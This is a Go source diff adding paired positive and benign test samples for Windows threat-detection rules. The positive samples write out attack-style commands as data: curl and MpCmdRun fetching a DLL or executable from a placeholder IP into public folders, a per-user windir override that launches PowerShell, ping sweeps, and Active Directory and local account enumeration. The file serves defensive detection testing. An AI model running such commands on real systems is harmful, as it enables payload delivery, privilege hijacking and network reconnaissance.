@@ -832,6 +832,60 @@ var samplesB4 = []samplePair{
 	},
 }
 
+var samplesB5 = []samplePair{
+	{
+		id:  "befceae1-6674-4d5e-9dae-96b5bb72233c", // Per-User windir or systemroot Environment Variable Overridden
+		pos: bReg(imgReg, hkuUser+`\Environment\windir`, `cmd /c start powershell&REM`),
+		neg: bReg(imgExpl, hkuUser+`\Environment\TEMP`, `%USERPROFILE%\AppData\Local\Temp`),
+	},
+	{
+		id:  "223a109a-fb34-4c60-bdea-751c2517028e", // curl Saves a Download to a Writable Folder or From an IP Address
+		pos: bProc(`C:\Windows\System32\curl.exe`, `curl -k https://203.0.113.5/t/a.dll -o c:\users\public\music\a.dll`, imgCmd),
+		neg: bProc(`C:\Windows\System32\curl.exe`, `curl -s https://api.github.com/repos/contoso/tool/releases/latest`, imgCmd),
+	},
+	{
+		id:  "98a4527f-36ad-471c-9b51-dd11abc3d18c", // Windows Utility Abused to Download a File
+		pos: bProc(`C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2207.7-0\MpCmdRun.exe`, `MpCmdRun.exe -DownloadFile -url https://203.0.113.5/p.exe -path C:\Users\Public\p.exe`, imgCmd),
+		neg: bProc(`C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2207.7-0\MpCmdRun.exe`, `MpCmdRun.exe -SignatureUpdate`, imgSvchost),
+	},
+	{
+		id:  "8eb260d5-ffbf-4e23-8bd9-6dba9fdf115e", // Ping Sweep From a Command Loop
+		pos: bProc(imgCmd, `cmd.exe /c for /L %i in (1,1,254) do @ping -n 1 -w 100 10.0.0.%i | find "TTL="`, imgPS),
+		neg: bProc(imgCmd, `cmd.exe /c ping -n 1 fileserver01`, imgExpl),
+	},
+	{
+		id:  "1dbde9e5-ad4e-4fde-8bc7-6fbed72dc423", // Ping Sweep From PowerShell
+		pos: bScript(`1..254 | ForEach-Object { if (Test-Connection -Count 1 -Quiet "10.0.0.$_") { "10.0.0.$_" } }`),
+		neg: bScript(`Test-Connection -ComputerName fileserver01 -Count 2`),
+	},
+	{
+		id:  "3a39a6e4-7c62-4475-a431-4ff8bfbd6ae9", // Domain Computers Enumerated With the ActiveDirectory Module
+		pos: bScript(`Get-ADComputer -Filter * -Properties OperatingSystem | Select-Object Name, OperatingSystem`),
+		neg: bScript(`Get-ADComputer -Identity WS01 -Properties LastLogonDate`),
+	},
+	{
+		id:  "93fbb6ba-7c5d-4c6e-b58a-bead1f48161c", // Domain Users Enumerated With the ActiveDirectory Module
+		pos: bScript(`Get-ADUser -Filter * -Properties ServicePrincipalName | Where-Object ServicePrincipalName`),
+		neg: bScript(`Get-ADUser -Identity bob -Properties PasswordLastSet`),
+	},
+	{
+		id:  "50d9241f-e4b2-4e1e-973a-6da9fe3ec5b2", // Domain Group Membership Enumerated With the ActiveDirectory Module
+		pos: bScript(`Get-ADGroupMember -Identity "Domain Admins" -Recursive`),
+		neg: bSample{chPS, 4104, map[string]string{"ScriptBlockText": `$members = Get-ADGroupMember -Identity $Name @commonParameters`,
+			"Path": `C:\Program Files\WindowsPowerShell\Modules\ActiveDirectoryDsc\DSCResources\MSFT_ADGroup\MSFT_ADGroup.psm1`}},
+	},
+	{
+		id:  "42534884-ca32-42c0-8ec4-c1d76123eee4", // Local Accounts Listed With PowerShell
+		pos: bScript(`Get-LocalUser | Where-Object Enabled`),
+		neg: bScript(`New-LocalUser -Name kiosk -NoPassword`),
+	},
+	{
+		id:  "82fec136-c0aa-4061-a5f2-5fb819b62021", // Local Group Members Listed With PowerShell
+		pos: bScript(`Get-LocalGroupMember -Group Administrators`),
+		neg: bScript(`Add-LocalGroupMember -Group "Remote Desktop Users" -Member bob`),
+	},
+}
+
 // moreLookAlikesB are further benign look-alikes for rules whose first one
 // does not exercise every filter.
 var moreLookAlikesB = []struct {
@@ -878,7 +932,7 @@ var moreLookAlikesB = []struct {
 }
 
 func init() {
-	for _, p := range slices.Concat(samplesB, samplesB2, samplesB3, samplesB4) {
+	for _, p := range slices.Concat(samplesB, samplesB2, samplesB3, samplesB4, samplesB5) {
 		rulePositives = append(rulePositives, ruleSample{ID: p.id, Channel: p.pos.channel, EventID: p.pos.eventID, Fields: p.pos.fields})
 		ruleNegatives = append(ruleNegatives, ruleSample{ID: p.id, Channel: p.neg.channel, EventID: p.neg.eventID, Fields: p.neg.fields})
 	}
